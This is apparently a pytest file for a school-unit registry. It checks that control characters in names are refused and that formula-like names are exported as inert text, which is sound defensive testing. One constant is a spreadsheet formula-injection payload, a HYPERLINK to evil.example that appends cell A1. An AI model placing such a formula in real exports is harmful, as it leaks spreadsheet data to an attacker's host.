"""Unit names that would break or arm an export (issue 9, items 10 and 11): refused on every way in,
written inert on every way out, and read back unchanged."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from jiaowei.auth.model import SYSTEM
from jiaowei.errors import ValidationError
from jiaowei.registry import service
from jiaowei.registry.transfer import export_rows, export_units, import_units
from tests.factories import login, make_unit, make_user, small_tree, token_for

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HEADER = "code,name_zh,name_en,type,parent,valid_from"


@pytest.mark.parametrize("bad", ["\x00", "\x1b", "\x7f", "\x85", "\n", "\t"])
def test_a_control_character_in_a_name_is_refused_through_the_api(client, conn, bad):
    small_tree(conn)
    headers = token_for(conn, make_user(conn))
    body = {"code": "S9", "name_zh": f"学校{bad}九", "name_en": "School 9", "type": "primary_school",
            "parent": "D1", "opened": "2020-01-01"}
    created = client.post("/api/units", headers=headers, json=body)
    assert created.status_code == 422, created.text
    (problem,) = created.json()["problems"]
    assert problem["field"] == "name_zh" and f"U+{ord(bad):04X}" in problem["message"]
    assert bad not in problem["value"] and "control characters" in problem["expected"]
    changed = client.patch("/api/units/S1", headers=headers,
                           json={"effective": "2020-01-01", "name_en": f"x{bad}"})
    assert changed.status_code == 422 and changed.json()["problems"][0]["field"] == "name_en"
    assert client.get("/api/units/S9", headers=headers).status_code == 404


def test_a_control_character_in_a_name_is_refused_by_the_pages(browser, conn):
    small_tree(conn)
    make_user(conn, "wang")
    csrf = login(browser, "wang")
    page = browser.post("/units/S1/edit", data={"csrf_token": csrf, "effective": "2020-01-01",
                                                "name_zh": "坏\x00名", "name_en": "Unit S1",
                                                "type": "primary_school", "ownership": "public",
                                                "sector": "education", "parent": "D1", "note": ""},
                        follow_redirects=False)
    assert page.status_code == 422
    rows = export_rows(conn, principal=SYSTEM, as_of=dt.date(2020, 1, 1))
    names = {row["code"]: row["name_zh"] for row in rows}
    assert names["S1"] == "单位S1"


def test_a_control_character_in_a_name_is_refused_by_csv_and_xlsx_imports(conn):
    small_tree(conn)
    csv_file = f"{HEADER}\nS9,学校\x00九,School 9,primary_school,D1,2020-01-01\n".encode()
    with pytest.raises(ValidationError) as refused:
        import_units(conn, principal=SYSTEM, data=csv_file, filename="u.csv")
    (problem,) = refused.value.problems
    assert (problem.row, problem.field, problem.value) == (2, "name_zh", "学校\\x00九")
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER.split(","))
    sheet.append(["S9", "学校九", "School\x7f9", "primary_school", "D1", "2020-01-01"])
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(ValidationError) as refused:
        import_units(conn, principal=SYSTEM, data=buffer.getvalue(), filename="u.xlsx")
    assert refused.value.problems[0].field == "name_en"


def formula_tree(conn) -> None:
    small_tree(conn)
    make_unit(conn, "S3", parent="D1", name_zh=FORMULA, name_en="=1+2")
    make_unit(conn, "S4", parent="D1", name_zh="'=already quoted", name_en="-minus, +plus, @at")


def test_xlsx_export_writes_names_as_text_not_formulas(conn):
    formula_tree(conn)
    exported = export_units(conn, principal=SYSTEM, as_of=dt.date(2020, 1, 1), format="xlsx")
    sheet = load_workbook(io.BytesIO(exported)).worksheets[0]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert cells["S3"][1].value == FORMULA and cells["S3"][1].data_type == "s"
    assert cells["S3"][2].value == "=1+2" and cells["S3"][2].data_type == "s"
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_csv_export_quotes_names_a_spreadsheet_would_compute(conn):
    formula_tree(conn)
    text = export_units(conn, principal=SYSTEM, as_of=dt.date(2020, 1, 1), format="csv").decode("utf-8-sig")
    assert "'=1+2" in text and "\"'=HYPERLINK(" in text and "''=already quoted" in text
    assert "\"'-minus, +plus, @at\"" in text
    assert not [line for line in text.splitlines() if any(f",{c}" in line for c in "=+-@")]


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_exports_with_formula_like_names_round_trip(conn, format):
    formula_tree(conn)
    exported = export_units(conn, principal=SYSTEM, as_of=dt.date(2020, 1, 1), format=format)
    summary = import_units(conn, principal=SYSTEM, data=exported, filename=f"u.{format}")
    assert (summary.created, summary.changed, summary.unchanged) == (0, 0, 7)
    names = {row["code"]: row for row in export_rows(conn, principal=SYSTEM, as_of=dt.date(2020, 1, 1))}
    assert (names["S3"]["name_zh"], names["S3"]["name_en"]) == (FORMULA, "=1+2")
    assert (names["S4"]["name_zh"], names["S4"]["name_en"]) == ("'=already quoted", "-minus, +plus, @at")


def test_an_export_survives_a_control_character_stored_before_the_check(conn):
    small_tree(conn)
    from jiaowei.registry.store import unit_versions
    conn.execute(unit_versions.update().values(name_en="old\x01name"))  # PostgreSQL stores no NUL
    exported = export_units(conn, principal=SYSTEM, as_of=dt.date(2020, 1, 1), format="xlsx")
    assert "old\ufffdname" in [c for row in load_workbook(io.BytesIO(exported)).worksheets[0].values
                               for c in row]
    assert service.check_fields({"name_en": "old\x01name"})[0].field == "name_en"
